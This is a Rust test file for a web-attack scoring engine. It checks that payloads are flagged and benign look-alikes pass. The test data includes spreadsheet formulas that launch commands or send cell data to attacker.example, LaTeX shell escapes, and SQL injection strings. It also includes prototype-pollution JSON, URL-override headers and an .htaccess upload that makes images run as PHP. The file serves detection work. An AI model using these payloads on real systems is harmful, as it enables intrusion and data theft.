//! Issue 12, red-team pass of session 37: families that passed every detector when written by
//! hand (spreadsheet formulas, LaTeX, ESI variables, `<link rel=import>`, `constructor` →
//! `prototype` as JSON inside a value, `rlike`/`regexp` SQL with no other gate). Each shape is
//! flagged in a query parameter, a form field and a JSON string leaf at level 1, and its benign
//! look-alike is not.

mod common;

use common::placed::{assert_flagged, assert_passed, encode};
use common::{engine_with_models, patterns_only};
use scoring::detectors::SQLI;
use scoring::ScoreInput;

#[test]
fn spreadsheet_formulas_that_run_programs_are_command_injection() {
    assert_flagged(
        "command-injection:spreadsheet-dde",
        &[
            "=cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!'A1'",
            "-2+3+cmd|' /C calc'!A0",
            " \"=msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!A1",
        ],
    );
    assert_flagged(
        "command-injection:spreadsheet-fetch-call",
        &[
            "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"Open\")",
            "=WEBSERVICE(\"http://attacker.example/\"&A2)",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
            "@IMPORTXML(CONCAT(\"http://a.example/?\",B3),\"//a\")",
        ],
    );
    // Values that merely start with a sign or hold a formula that calls nothing.
    assert_passed(&["+1-415-555-0134", "-2", "@john see you at 5", "=SUM(A1:A3)", "=A1*2", "-- no comment --", "+44 (0)20 7946 0958"]);
}

#[test]
fn latex_shell_escape_and_file_reads_are_flagged() {
    assert_flagged("command-injection:latex-shell-escape", &["\\immediate\\write18{id}", "\\usepackage{shellesc}\\ShellEscape{uname -a}"]);
    assert_flagged("path-traversal:latex-file-read", &["\\input{/srv/app/config/database.yml}", "\\lstinputlisting{/srv/app/settings.py}"]);
    assert_passed(&["\\input{chapter1}", "see \\include{intro} for the intro", "\\section{Results} and \\cite{knuth84}"]);
}

#[test]
fn esi_variables_and_comments_are_ssi() {
    assert_flagged("ssi:esi-comment", &["x<!--esi $(HTTP_COOKIE)-->"]);
    assert_flagged("ssi:esi-variable", &["$(HTTP_COOKIE{'session'})", "$(QUERY_STRING)"]);
    assert_passed(&["$(document).ready(fn)", "price $(USD) 12"]);
}

#[test]
fn link_elements_importing_a_document_are_xss() {
    assert_flagged(
        "xss:link-import",
        &["<link rel=import href=//attacker.example/x>", "<link href='//a.example/m.js' rel=\"modulepreload\">"],
    );
    assert_passed(&["<link rel=stylesheet href=/static/site.css>", "rel=import is a removed feature"]);
}

#[test]
fn constructor_prototype_as_json_inside_a_value_is_prototype_pollution() {
    assert_flagged(
        "prototype-pollution:value-path",
        &["{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}", "{ 'constructor' : { 'prototype' : { 'polluted' : 1 } } }"],
    );
    assert_passed(&["{\"constructor\":\"Widget\",\"prototype\":{\"x\":1}}", "{\"constructor\":{\"name\":\"Widget\"}}"]);
}

/// `rlike` / `regexp` after a number, or a pattern match against a subquery, reached no gate
/// rule, so the SQLi model never read them.
#[tokio::test]
async fn regexp_operators_reach_the_sqli_model() {
    let engine = engine_with_models();
    for value in ["1 rlike (select 1)", "1 RLIKE SLEEP(5)", "x' rlike (select 1)-- -", "abc like (select password from users)"] {
        let text = format!("GET /item?id={}\n", encode(value));
        let r = engine.score_all(&ScoreInput { request_text: &text, headers: &[] }).await;
        assert!(r.breakdown.get(SQLI) > engine.threshold(), "{value:?}: {r:?}");
    }
    for value in ["songs like rock and regexp tutorials", "2 likes from 3 people"] {
        let text = format!("GET /search?q={}\n", encode(value));
        let r = engine.score_all(&ScoreInput { request_text: &text, headers: &[] }).await;
        assert!(r.breakdown.get(SQLI) <= engine.threshold(), "{value:?}: {r:?}");
    }
}

#[test]
fn a_value_naming_a_code_running_php_function_is_php_injection() {
    assert_flagged("php-injection:callback-name", &["call_user_func_array", "shell_exec", " passthru "]);
    assert_passed(&["system", "exec", "call user func", "shell", "pass through"]);
}

/// ORM filters written in the parameter name (`filter[where][password][regexp]=/^a/`) are all
/// name bytes: the name must stay a field for the rule to see it.
#[test]
fn orm_filters_on_secret_columns_are_nosqli() {
    let engine = patterns_only();
    for query in ["filter[where][password][regexp]=/^a/", "filter%5Bwhere%5D%5Bpassword%5D%5Bregexp%5D=%2F%5Ea%2F", "where[api_key][neq]=x"]
    {
        let text = format!("GET /api/users?{query}\n");
        let r = engine.score_patterns(&ScoreInput { request_text: &text, headers: &[] });
        assert_eq!(r.reason, "nosqli:orm-filter-on-secret", "{text:?}: {r:?}");
    }
    for query in ["filter[where][name][like]=jo%25", "user[password][new]=hunter22", "cart[0][sku]=MUG"] {
        let text = format!("GET /api/users?{query}\n");
        let r = engine.score_patterns(&ScoreInput { request_text: &text, headers: &[] });
        assert!(r.score <= engine.threshold(), "{text:?}: {r:?}");
    }
}

/// A URL-override header routes the request to another path than the one judged; an upload
/// named like the server's own configuration changes how the folder's files run.
#[test]
fn url_override_headers_and_server_config_uploads_are_protocol_anomalies() {
    let engine = patterns_only();
    let header = |name: &str, value: &str| vec![(name.to_string(), value.to_string())];
    for (name, value) in [("X-Original-URL", "/admin"), ("x-rewrite-url", "/admin/users/7/delete")] {
        let r = engine.score_patterns(&ScoreInput { request_text: "GET /\n", headers: &header(name, value) });
        assert_eq!(r.reason, "protocol:url-override-header", "{name}: {r:?}");
    }
    let upload = |file: &str| {
        format!("POST /upload\n--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{file}\"\r\nContent-Type: text/plain\r\n\r\nAddType application/x-httpd-php .jpg\r\n--XX--\r\n")
    };
    let multipart = header("content-type", "multipart/form-data; boundary=XX");
    let r = engine.score_patterns(&ScoreInput { request_text: &upload(".htaccess"), headers: &multipart });
    assert_eq!(r.reason, "protocol:server-config-upload", "{r:?}");
    let r = engine.score_patterns(&ScoreInput { request_text: &upload("htaccess-notes.txt"), headers: &multipart });
    assert!(r.score <= engine.threshold(), "{r:?}");
}
